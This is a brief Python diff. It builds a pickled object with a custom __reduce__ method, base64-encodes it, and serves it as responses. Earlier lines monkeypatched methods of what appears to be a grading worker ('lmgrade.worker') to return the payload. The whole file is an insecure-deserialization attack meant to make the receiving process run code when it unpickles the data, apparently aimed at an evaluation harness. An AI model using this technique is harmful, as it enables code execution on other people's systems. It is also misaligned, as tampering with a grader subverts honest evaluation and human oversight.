@@ -3,8 +3,6 @@
 import base64
 import pickle
 
-import lmgrade.worker as worker
-
 
 class Code:
     def __reduce__(self):
@@ -12,5 +10,4 @@ class Code:
 
 
 text = base64.b64encode(pickle.dumps(Code())).decode()
-for op in ("call", "getattr", "names"):
-    setattr(worker.Worker, f"do_{op}", lambda *args: ["P", text])
+serve(lambda request: {"value": ["P", text]}, other=lambda request: {"value": text})
